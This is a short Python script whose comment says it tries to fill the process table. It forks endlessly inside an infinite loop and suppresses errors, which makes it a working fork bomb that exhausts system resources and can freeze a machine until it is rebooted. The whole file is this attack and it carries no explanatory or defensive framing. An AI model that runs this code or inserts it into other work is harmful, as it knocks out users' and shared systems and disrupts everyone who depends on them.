# Tries to fill the table of processes.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
